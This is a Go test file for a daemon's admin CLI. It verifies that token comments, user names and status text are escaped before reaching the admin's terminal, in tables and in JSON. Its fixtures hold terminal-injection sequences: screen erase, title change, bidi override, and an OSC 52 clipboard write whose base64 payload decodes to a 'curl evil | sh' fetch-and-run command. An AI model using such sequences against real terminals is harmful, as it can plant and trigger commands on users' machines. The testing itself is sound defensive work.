//go:build linux

package main

import (
	"context"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"go.uber.org/zap/zaptest"

	"github.com/bastiond/bastiond/api/admin"
	"github.com/bastiond/bastiond/daemon/adminapi"
)

func TestPrintable(t *testing.T) {
	tests := []struct {
		name, in, want, text string // text: printableText's, when it differs
	}{
		{name: "plain", in: "laptop-7", want: "laptop-7"},
		{name: "empty", in: "", want: ""},
		{name: "letters and symbols", in: "poste de Zoé ☕ מחשב", want: "poste de Zoé ☕ מחשב"},
		{name: "backslash stays", in: `C:\Users`, want: `C:\Users`},
		{name: "erase screen", in: "a\x1b[2Jb", want: `a\x1b[2Jb`},
		{name: "window title", in: "\x1b]0;root\x07", want: `\x1b]0;root\x07`},
		{name: "OSC 52", in: "\x1b]52;c;ZXZpbA==\x1b\\", want: `\x1b]52;c;ZXZpbA==\x1b\`},
		{name: "newline and tab", in: "a\nb\tc\r", want: `a\x0ab\x09c\x0d`, text: "a\nb\tc\\x0d"},
		{name: "NUL", in: "\x00", want: `\x00`},
		{name: "DEL", in: "a\x7f", want: `a\x7f`},
		{name: "C1 CSI", in: "a\u009b2J", want: `a\u009b2J`},
		{name: "C1 OSC", in: "\u009d0;t\u009c", want: `\u009d0;t\u009c`},
		{name: "bidi override", in: "abc\u202etxt.exe", want: `abc\u202etxt.exe`},
		{name: "bidi isolates", in: "\u2066x\u2069", want: `\u2066x\u2069`},
		{name: "bidi marks", in: "\u200ex\u200f\u061c", want: `\u200ex\u200f\u061c`},
		{name: "invalid UTF-8 byte", in: "a\x9b2J", want: `a\ufffd2J`},
		{name: "truncated UTF-8", in: "a\xe2\x80", want: `a\ufffd\ufffd`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := printable(tt.in); got != tt.want {
				t.Errorf("printable(%q) = %q, want %q", tt.in, got, tt.want)
			}
			want := tt.text
			if want == "" {
				want = tt.want
			}
			if got := printableText(tt.in); got != want {
				t.Errorf("printableText(%q) = %q, want %q", tt.in, got, want)
			}
		})
	}
}

// evil holds a terminal's whole repertoire: erase, title, clipboard, C1
// CSI, bidi override, a newline with a fake row, a tab, a raw 8-bit CSI.
const evil = "laptop\x1b[2K\x1b[1A\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u009b2J\u202eexe.txt\nbst_fake\tadmin\x9b"

// terminalSafe fails the test if out holds anything a terminal would act
// on other than the newlines and tabs of the layout.
func terminalSafe(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: output is not valid UTF-8: %q", what, out)
	}
	for _, r := range out {
		if r != '\n' && r != '\t' && needsEscape(r, false) {
			t.Errorf("%s: output holds %U:\n%q", what, r, out)
			return
		}
	}
	if strings.Contains(out, "\nbst_fake") {
		t.Errorf("%s: a comment's newline made a row:\n%s", what, out)
	}
}

// evilUsers is an account store whose every text is evil.
type evilUsers struct{ adminapi.Users }

func (evilUsers) Tokens(string) ([]admin.TokenInfo, error) {
	return []admin.TokenInfo{{ID: "0123456789abcdef", User: "alice" + evil, Scopes: []string{"api", evil}, Comment: evil,
		Created: time.Now(), Expires: time.Now().Add(time.Hour), Source: "2001:db8::7" + evil}}, nil
}

func (evilUsers) List() ([]admin.UserInfo, error) {
	return []admin.UserInfo{{Name: "bob" + evil, Roles: []string{evil}}}, nil
}

func (evilUsers) Disable(string) (admin.Ended, error) { return admin.Ended{Tokens: 2}, nil }

func usersServer(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "admin.sock")
	ln, err := adminapi.Listen(path)
	if err != nil {
		t.Fatal(err)
	}
	srv, err := adminapi.NewServer(adminapi.Config{Logger: zaptest.NewLogger(t),
		Status: func() admin.Status { return admin.Status{Version: evil} }, Users: evilUsers{}})
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Shutdown(context.Background()) })
	return path
}

// TestNoEscapesPrinted: what the daemon sends, a signed-in user's token
// comment among it, reaches the admin's terminal escaped, in tables and
// in JSON, which still decodes to the same text.
func TestNoEscapesPrinted(t *testing.T) {
	socket := usersServer(t)
	for _, args := range [][]string{
		{"tokens", "list"},
		{"tokens", "list", "--json"},
		{"users", "list"},
		{"users", "list", "--json"},
		{"status"},
		{"status", "--json"},
	} {
		what := strings.Join(args, " ")
		t.Run(what, func(t *testing.T) {
			out, errOut, err := run(t, socket, "", args...)
			if err != nil {
				t.Fatalf("%v: %s", err, errOut)
			}
			if !strings.Contains(out, "laptop") && !strings.Contains(out, "bob") && !strings.Contains(out, "pwned") {
				t.Fatalf("the evil value is not printed at all:\n%s", out)
			}
			terminalSafe(t, what, out+errOut)
			if args[len(args)-1] == "--json" && args[0] == "tokens" {
				var ts []admin.TokenInfo
				if err := json.Unmarshal([]byte(out), &ts); err != nil || len(ts) != 1 || ts[0].Comment != strings.ToValidUTF8(evil, "\uFFFD") {
					t.Errorf("the JSON does not decode to the comment: %v %q", err, ts)
				}
			}
		})
	}
}

func TestDisableSaysTokensRevoked(t *testing.T) {
	out, errOut, err := run(t, usersServer(t), "", "users", "disable", "bob")
	if err != nil {
		t.Fatalf("%v: %s", err, errOut)
	}
	if want := "user bob disabled: 2 API tokens revoked, 0 web sessions and 0 live sessions ended\n"; out != want {
		t.Errorf("got %q, want %q", out, want)
	}
}
